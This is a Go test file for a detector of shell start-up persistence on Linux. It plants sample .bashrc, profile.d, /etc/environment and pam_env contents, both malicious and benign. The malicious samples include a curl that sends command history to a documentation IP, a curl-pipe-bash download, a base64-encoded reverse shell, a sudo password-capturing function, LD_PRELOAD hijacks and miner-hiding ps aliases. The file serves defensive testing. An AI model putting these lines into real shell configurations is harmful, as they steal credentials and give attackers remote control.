package check

import "testing"

// Scenarios of the shell start-up persistence checks.

func TestPersistenceShellScenarios(t *testing.T) {
	t.Parallel()
	runScenarios(t, []scenario{
		{name: "PROMPT_COMMAND sends history", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("root/.bashrc", "export PROMPT_COMMAND='history 1 | curl -s -d @- http://198.51.100.1/h'\n")
		}, want: []want{{"persistence.shell_prompt_command", "/root/.bashrc"}}},
		{name: "PROMPT_COMMAND hard: profile.d runs a hidden temp program", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/profile.d/zz-prompt.sh", "  declare -x PROMPT_COMMAND=\"/tmp/.p/x\"\n")
		}, want: []want{{"persistence.shell_prompt_command", "/etc/profile.d/zz-prompt.sh"}}},
		{name: "benign: PROMPT_COMMAND history -a and syslog audit", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("home/debian/.bashrc", "PROMPT_COMMAND='history -a'\n")
			r.write("etc/profile.d/audit.sh", "export PROMPT_COMMAND='RETRN_VAL=$?;logger -p local6.debug \"$(whoami) [$$]: $(history 1 | sed \"s/^[ ]*[0-9]\\+[ ]*//\" ) [$RETRN_VAL]\"'\n")
		}},
		{name: "alias sudo to a temp wrapper", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("home/debian/.bashrc", "alias sudo='/tmp/.s/sudo'\n")
		}, want: []want{{"persistence.shell_alias_hijack", "/home/debian/.bashrc"}}},
		{name: "alias ps hides a miner", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("root/.bashrc", "alias ps='ps | grep -v kdevtmpfsi'\n")
		}, want: []want{{"persistence.shell_alias_hijack", "/root/.bashrc"}}},
		{name: "alias hard: ssh wrapped by strace in bash_aliases", pattern: pp, plant: func(r *testRoot) {
			r.write("home/debian/.bash_aliases", "alias  ssh=\"strace -o /tmp/.ssh.log -e read,write ssh\"\n")
		}, want: []want{{"persistence.shell_alias_hijack", "/home/debian/.bash_aliases"}}},
		{name: "benign: everyday aliases", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("home/debian/.bashrc", "alias ll='ls -alF'\nalias la='ls -A'\nalias ls='ls --color=auto'\nalias rm='rm -i'\nalias sudo='sudo '\nalias grep='grep --color=auto'\n")
		}},
		{name: "trap EXIT calls home", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("root/.bashrc", "trap 'curl -s http://198.51.100.1/$(whoami) >/dev/null' EXIT\n")
		}, want: []want{{"persistence.shell_trap", "/root/.bashrc"}}},
		{name: "trap hard: DEBUG runs a shm program", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/profile.d/dbg.sh", "trap -- '/dev/shm/.t &' DEBUG\n")
		}, want: []want{{"persistence.shell_trap", "/etc/profile.d/dbg.sh"}}},
		{name: "trap benign payload: DEBUG runs an outside program", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("home/debian/.bashrc", "trap '/usr/local/bin/cmdlog \"$BASH_COMMAND\"' DEBUG\n")
		}, want: []want{{"persistence.shell_trap", "/home/debian/.bashrc"}}},
		{name: "benign: trap cleaning a temp file, preexec function", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/profile.d/tmp.sh", "tmpf=$(mktemp)\ntrap 'rm -f \"$tmpf\"' EXIT\n__bp_preexec() {\n  :\n}\ntrap '__bp_preexec \"$_\"' DEBUG\n")
		}},
		{name: "profile.d exports LD_PRELOAD of an unowned library", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/lib/x86_64-linux-gnu/libperf.so", fakeELF("perf"))
			r.write("etc/profile.d/perf.sh", "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libperf.so\n")
		}, want: []want{{"persistence.shell_ld_preload", "/etc/profile.d/perf.sh"}}},
		{name: "LD_PRELOAD hard: csh setenv in a hidden shm file", pattern: pp, plant: func(r *testRoot) {
			r.write("root/.cshrc", "setenv LD_PRELOAD /dev/shm/.l.so\n")
		}, want: []want{{"persistence.shell_ld_preload", "/root/.cshrc"}}},
		{name: "bashrc downloads and runs", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("home/debian/.bashrc", "(curl -fsSL http://198.51.100.2/k.sh | bash) >/dev/null 2>&1 &\n")
		}, want: []want{{"persistence.shell_download_exec", "/home/debian/.bashrc"}}},
		{name: "bash.bashrc hard: base64 reverse shell", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("etc/bash.bashrc", "echo 'YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=' | base64 -d | bash &\n")
		}, want: []want{{"persistence.shell_download_exec", "/etc/bash.bashrc"}}},
		{name: "root bashrc runs a temp binary", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("root/.bashrc", "/tmp/kworker >/dev/null 2>&1 &\n")
		}, want: []want{{"persistence.shell_runs_untrusted", "/root/.bashrc"}}},
		{name: "profile hard: nohup of a deep hidden home program", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("root/.config/.sys/sysd", fakeELF("sysd"), 0o755)
			r.appendTo("root/.profile", "nohup /root/.config/.sys/sysd >/dev/null 2>&1 &\n")
		}, want: []want{{"persistence.shell_runs_untrusted", "/root/.profile"}}},
		{name: "benign: tool environments from the home", pattern: pp, plant: func(r *testRoot) {
			r.write("root/.nvm/nvm.sh", "nvm() { :; }\n")
			r.appendTo("root/.bashrc", ". \"$HOME/.cargo/env\"\nexport NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"\nsource /root/.nvm/nvm.sh\nexport PATH=\"/root/.local/bin:/root/.cargo/bin:$PATH\"\neval \"$(pyenv init -)\"\n")
		}},
		{name: "sudo function captures the password", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("home/debian/.bashrc", "sudo() {\n  read -s -p \"[sudo] password for $USER: \" pw\n  echo \"$USER:$pw\" >> /var/tmp/.cache\n  echo\n  command sudo \"$@\"\n}\n")
		}, want: []want{{"persistence.shell_function_override", "/home/debian/.bashrc"}}},
		{name: "function hard: ps filtered, keyword form", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/profile.d/ps.sh", "function ps {\n command ps \"$@\" | grep -v -E 'xmrig|kdevtmp'\n}\n")
		}, want: []want{{"persistence.shell_function_override", "/etc/profile.d/ps.sh"}}},
		{name: "benign: cd function", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("home/debian/.bashrc", "cd() { builtin cd \"$@\" && ls; }\n")
		}},
		{name: "/etc/environment LD_PRELOAD", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/local/lib/libsys.so", fakeELF("sys"))
			r.write("etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nLD_PRELOAD=/usr/local/lib/libsys.so\n")
		}, want: []want{{"persistence.environment_ld_preload", "/etc/environment"}}},
		{name: "pam_env hard: DEFAULT= syntax, hidden library", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/security/pam_env.conf", "# pam_env\nLD_PRELOAD\tDEFAULT=/lib/.x.so\n")
		}, want: []want{{"persistence.environment_ld_preload", "/etc/security/pam_env.conf"}}},
		{name: "benign: /etc/environment with PATH and proxy", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nhttp_proxy=http://proxy.corp:3128\n")
		}},
	})
}
